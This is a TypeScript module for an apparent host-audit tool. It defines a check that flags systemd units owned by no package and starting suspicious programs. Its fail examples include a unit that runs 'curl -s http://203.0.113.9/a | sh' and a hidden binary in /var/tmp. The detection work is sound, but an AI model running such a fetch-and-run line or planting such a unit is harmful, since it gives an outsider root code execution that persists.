import { cannotTell, defineCheck, fail, type Outcome, pass } from '../../core/check.js';
import { exampleRef, partlySeen, seen, unseen } from '../../core/example.js';
import { defaultPolicy } from '../../core/policy.js';
import { containers } from '../../facts/containers.js';
import { exampleContainer } from '../../facts/examples.js';
import { type Unit, units } from '../../facts/host.js';
import { policy } from '../../facts/policy.js';
import { isApproved, judgeUnowned } from '../shared/approval.js';
import { attackInCommand, quoteCommand } from '../shared/start-command.js';

function textOf(unit: Unit): string {
  const command = unit.execStart[0];
  return `${unit.file}${command === undefined ? '' : `: ${quoteCommand(command)}`}`;
}

function attackOf(unit: Unit, approved: boolean, all: Parameters<typeof attackInCommand>[1]): Outcome | null {
  for (const command of unit.execStart) {
    const why = attackInCommand(command, approved ? null : all);
    if (why === null) continue;
    const severity = why.includes('can write') ? 'high' : 'critical';
    const user = unit.user ?? 'root';
    return fail([unit.ref], {
      severity,
      what: `${unit.name} runs ${quoteCommand(command)} as ${user}: ${why}`,
      location: unit.file,
    });
  }
  return null;
}

/** PER-02: units, timers and drop-ins of systemd (ATT&CK T1543.002). */
export const unitStartsForeignProgram = defineCheck({
  id: 'PER-02',
  title: 'A systemd unit belongs to nobody',
  questions: ['Q6'],
  severity: 'high',
  required: true,
  needs: { units, policy },
  uses: { containers },
  decide: (facts) => {
    const foreign = facts.units.value.filter((unit) => unit.packageOwned !== true);
    const listed = (unit: Unit) =>
      isApproved(facts.policy.value.approved.units, [unit.name, unit.file], unit.execStart.join('\n'));
    const attacks = foreign
      .map((unit) => attackOf(unit, listed(unit), facts.containers))
      .filter((outcome) => outcome !== null);
    if (attacks.length > 0) return attacks;
    const unowned = foreign
      .filter((unit) => !listed(unit) && unit.execStart.length > 0)
      .map((unit) => ({ text: textOf(unit), location: unit.file, subject: 'host', ref: unit.ref }));
    const declared = facts.policy.value.approved.units.length > 0;
    const open = judgeUnowned(unowned, { declared, kind: 'unit', key: 'approved.units' });
    if (open.length > 0) return open;
    if (!facts.units.complete) {
      const gap = facts.units.gap;
      return cannotTell(gap?.reason ?? 'not-collected', gap?.detail ?? 'only a part of the units was read', {
        settle: 'sudo tail -n +1 -v /etc/systemd/system/*.service /etc/systemd/system/*/*.conf',
      });
    }
    return pass(facts.units.evidence, {
      what: `${facts.units.value.length} units read, all that start something are of packages or approved`,
    });
  },
  whyItMatters: 'A unit starts at every boot, as root unless it says otherwise, and starts again when it is killed.',
  verifyByHand: 'systemctl list-unit-files --state=enabled; sudo tail -n +1 -v /etc/systemd/system/*.service',
  remediation: {
    text: 'List what is yours under approved.units. Copy what is not before it is disabled.',
    commands: ['systemctl cat UNIT', 'sudo systemctl disable --now UNIT'],
  },
  references: ['ATT&CK T1543.002'],
  examples: {
    pass: [
      { title: 'none beside those of packages', facts: withUnits([]) },
      { title: 'of a package', facts: withUnits([unitOf('/usr/sbin/nginx -g daemon', { packageOwned: true })]) },
      {
        title: 'a drop-in that starts nothing',
        facts: withUnits([unitOf('', { execStart: [], file: '/etc/systemd/system/nginx.service.d/limits.conf' })]),
      },
      {
        title: 'approved by its name',
        facts: {
          ...withUnits([unitOf('/usr/local/bin/jobs')]),
          policy: seen({
            ...defaultPolicy,
            declared: true,
            approved: { ...defaultPolicy.approved, units: ['site.service'] },
          }),
        },
      },
    ],
    fail: [
      { title: 'fetch and run', facts: withUnits([unitOf('/bin/sh -c "curl -s http://203.0.113.9/a | sh"')]) },
      { title: 'a program in /var/tmp', facts: withUnits([unitOf('/var/tmp/.cache/sysd')]) },
      {
        title: "a script that the app's container can write",
        facts: {
          ...withUnits([unitOf('/srv/site/run.sh')]),
          containers: seen([
            exampleContainer({
              mounts: [{ type: 'bind', source: '/srv/site', destination: '/app', readWrite: true, propagation: '' }],
            }),
          ]),
        },
      },
      {
        title: 'not in the declared list',
        facts: {
          ...withUnits([unitOf('/usr/local/bin/jobs')]),
          policy: seen({
            ...defaultPolicy,
            declared: true,
            approved: { ...defaultPolicy.approved, units: ['other.service'] },
          }),
        },
      },
    ],
    blind: [
      { title: 'units not read', facts: { units: unseen(), policy: seen(defaultPolicy) } },
      { title: 'only a part was read', facts: { units: partlySeen([]), policy: seen(defaultPolicy) } },
      { title: 'a unit whose owner is not known', facts: withUnits([unitOf('/usr/local/bin/jobs')]) },
    ],
  },
});

function unitOf(command: string, change: Partial<Unit> = {}): Unit {
  return {
    name: 'site.service',
    file: '/etc/systemd/system/site.service',
    execStart: [command],
    user: null,
    packageOwned: null,
    ref: exampleRef('host.systemd-units'),
    ...change,
  };
}

function withUnits(list: readonly Unit[]) {
  return { units: seen(list), policy: seen(defaultPolicy) };
}
